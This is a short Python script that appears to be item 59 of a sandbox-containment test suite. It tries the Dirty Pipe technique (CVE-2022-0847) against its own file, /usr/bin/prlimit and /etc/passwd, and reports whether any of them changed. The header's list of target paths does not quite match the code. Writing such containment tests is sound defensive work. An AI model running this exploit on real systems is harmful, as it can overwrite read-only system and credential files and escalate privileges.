# Attack: 59, writing into a read-only file through a pipe
# Source: CVE-2022-0847 (Dirty Pipe)
# Tries: fills and empties a pipe so that its slots keep their flags, splices one byte of /w and of /usr into it, and writes after it.
# Meets: the bytes land in the pipe; the files read as they did before.
# Expect: contained
import os
import sys


def content(path):
    with open(path, "rb", buffering=0) as file:
        return file.read(4096)


for path in (sys.argv[0], "/usr/bin/prlimit", "/etc/passwd"):
    before = content(path)
    reading, writing = os.pipe()
    size = 65536
    os.write(writing, b"x" * size)
    os.read(reading, size)
    victim = os.open(path, os.O_RDONLY)
    os.splice(victim, writing, 1, offset_src=0)
    os.write(writing, b"dirty")
    if content(path) != before:
        print("ESCAPED: changed", path)
        break
else:
    print("contained")
